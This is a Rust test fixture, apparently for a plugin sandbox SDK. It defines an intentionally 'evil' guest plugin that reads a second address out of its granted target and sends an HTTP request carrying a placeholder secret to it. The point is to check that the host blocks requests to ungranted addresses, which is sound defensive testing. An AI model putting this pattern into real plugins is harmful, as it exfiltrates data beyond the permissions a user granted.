//! Attack: was granted its target, and sends what it knows to another address. The test puts that address into the target.

use evil_honest::{Collecting, Errand, nothing};
use tandem_sdk::{
    collector::{CollectRequest, Collection, Host, HttpRequest},
    types::Failure,
};

/// The guest.
#[derive(Debug)]
pub struct AsksUngrantedAddress;

impl Errand for AsksUngrantedAddress {
    const NAME: &str = "evil-asks-ungranted-address";
    const ASKS: &[(&str, &str)] = &[("http", "target")];

    fn collect(request: &CollectRequest, host: &dyn Host) -> Result<Collection, Failure> {
        let (_, elsewhere) = request.target.split_once("elsewhere=").unwrap_or(("", "127.0.0.1:9"));
        host.http().send(HttpRequest::get(format!("http://{elsewhere}/?secret=42")))?;
        Ok(nothing())
    }
}

type Plugin = Collecting<AsksUngrantedAddress>;
tandem_sdk::collector!(Plugin, http);
